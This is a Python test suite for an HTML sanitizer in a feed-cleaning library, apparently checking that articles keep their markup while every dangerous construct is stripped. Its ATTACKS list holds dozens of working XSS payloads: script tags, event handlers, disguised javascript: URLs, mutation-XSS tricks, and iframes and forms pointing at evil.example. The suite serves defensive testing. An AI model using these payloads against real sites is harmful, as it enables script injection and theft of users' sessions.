"""The guard at the exit lets nothing through that runs, frames, restyles or submits; and keeps all that is text."""

from __future__ import annotations

import re
import time
from html import escape, unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests import strategies

from feedclean.html import parse
from feedclean.html.sanitize import SCHEMES, printable, sanitize
from feedclean.model import Block, html_of

# One or more of every way that is known: tags, handlers, schemes and their disguises, styles, foreign content,
# differences between parsers, mutation by a second parse, clobbering.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="x" alt="`onerror=alert(1)`">',
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=10>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/y'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='x.swf'>",
    "<applet code=x></applet><frameset><frame src=x></frameset>",
    "<base href='https://evil.example/'><a href='/x'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>Go</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<video poster='javascript:alert(1)'></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<p id='location' name='cookie' class='ad-banner'>x</p>",
    "<a href='https://x.example' target=_blank ping='https://evil.example' rel=opener onclick=alert(1)>x</a>",
    "<img src='https://x.example/a.png' srcset='javascript:alert(1) 2x' usemap='#m' longdesc='javascript:alert(1)'>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote><q cite='javascript:alert(1)'>x</q>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x</table>",
    "<del cite='javascript:x'>a</del>",
    "<x onclick=alert(1) style='a:b'>x</x>",
    "<figure onmouseover=alert(1)><figcaption onclick=alert(1)>x</figcaption></figure>",
    "\ud800<script>\udfff</script>",
    '<a href="https://x.example/" onmouseover="alert(1)" title=\'"><script>alert(1)</script>\'>x</a>',
]
ALLOWED_TAGS = set(
    "a abbr b bdi bdo blockquote br caption cite code dd del dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i "
    "img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub sup table tbody td tfoot th thead time tr "
    "u ul var wbr".split()
)
ALLOWED_ATTRIBUTES = set(
    "alt class colspan datetime dir height href hreflang lang rel rowspan scope src start title width".split()
)
ALLOWED_CLASSES = re.compile(r"credit|embed|language-[a-z]+")


def assert_harmless(markup: str) -> None:
    """Read the result with another parser than the sanitizer's, and look at everything that is in it."""
    page = parse(markup)
    for i, tag in enumerate(page.tags):
        if not tag or tag in {"html", "head", "body"}:
            continue
        assert tag in ALLOWED_TAGS, markup
        for name, value in page.attributes[i].items():
            assert name in ALLOWED_ATTRIBUTES, markup
            if name in {"href", "src"}:
                scheme = re.match(r"[\x00-\x20]*([a-zA-Z][a-zA-Z0-9+.\-\s]*):", value or "")
                assert scheme is None or scheme[1].lower() in SCHEMES, markup
            if name == "class" and value:
                assert all(ALLOWED_CLASSES.fullmatch(c) for c in value.split()), markup
            if name == "rel":
                assert value == "noopener"
    assert not re.search(r"<(script|style|svg|math|iframe)", markup, re.IGNORECASE)


@pytest.mark.parametrize(
    "around", ["{}", "<p>a {} b</p>", "<table><tr><td>{}", "<pre><code>{}</code></pre>", "<b><i>{}</b></i>"]
)
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_gets_through(attack: str, around: str) -> None:
    clean = sanitize(around.format(attack))
    assert_harmless(clean)
    assert sanitize(clean) == clean


@given(st.lists(st.one_of(st.sampled_from(ATTACKS), strategies.text), max_size=4).map("".join))
def test_nothing_that_is_made_of_attacks_gets_through(markup: str) -> None:
    clean = sanitize(markup)
    assert_harmless(clean)
    assert sanitize(clean) == clean


@given(st.text(alphabet="<>/=\"'& \n!-abipretdsvg", max_size=60))
def test_no_soup_of_markup_gets_through(markup: str) -> None:
    clean = sanitize(markup)
    assert_harmless(clean)
    assert sanitize(clean) == clean


@given(strategies.blocks)
def test_what_our_blocks_write_is_harmless(blocks: tuple[Block, ...]) -> None:
    assert_harmless(sanitize(html_of(blocks)))


KEPT = [
    '<p>A <a href="https://x.example/?a=b&amp;c=d" rel="noopener">link</a>, <em>so</em> <strong>it</strong> goes.</p>',
    (
        '<figure><img src="https://x.example/a.jpg" alt="A &amp; B" width="8" height="6">'
        '<figcaption>Said <small class="credit">AP</small></figcaption></figure>'
    ),
    '<figure class="embed"><figcaption><a href="https://v.example/1" rel="noopener">A film</a></figcaption></figure>',
    '<pre><code class="language-python">if a &lt; b:\n    pass\n</code></pre>',
    '<table><caption>C</caption><tbody><tr><th colspan="2" scope="col">H</th></tr><tr><td>a</td></tr></tbody></table>',
    '<ol start="3"><li>x<ul><li>y</li></ul></li></ol>',
    '<p lang="ar" dir="rtl">مرحبا</p><p><ruby>東<rt>とう</rt></ruby>H<sub>2</sub>O <kbd>Ctrl</kbd></p>',
    '<p><time datetime="2026-05-01">1 May</time> <a href="mailto:a@x.example" rel="noopener">write</a></p>',
]


@pytest.mark.parametrize("markup", KEPT)
def test_what_articles_are_made_of_stays_as_it_is(markup: str) -> None:
    assert sanitize(markup) == markup


@given(strategies.text)
def test_no_text_is_lost(text: str) -> None:
    clean = sanitize(f"<p>{escape(text)}</p>")
    assert unescape(clean.removeprefix("<p>").removesuffix("</p>")) == printable(text)


def test_pairs_of_surrogates_are_the_character_they_stand_for() -> None:
    assert printable("\ud83d\ude00 \ud83d \ude00") == "😀 \ufffd \ufffd"


@pytest.mark.parametrize(
    "tags", ["<div>", "<b><i>", "<blockquote><p>", "<ul><li>", "<table><tr><td>", "<div><a href='/'></div>"]
)
def test_absurd_nesting_costs_no_more_than_its_length(tags: str) -> None:
    before = time.process_time()
    clean = sanitize(tags * 50_000 + "said <b>at</b> last")
    # The parser behind it would take minutes: the bound tells that from linear time, it does not measure.
    assert time.process_time() - before < 10
    assert clean.split() == ["said", "at", "last"]
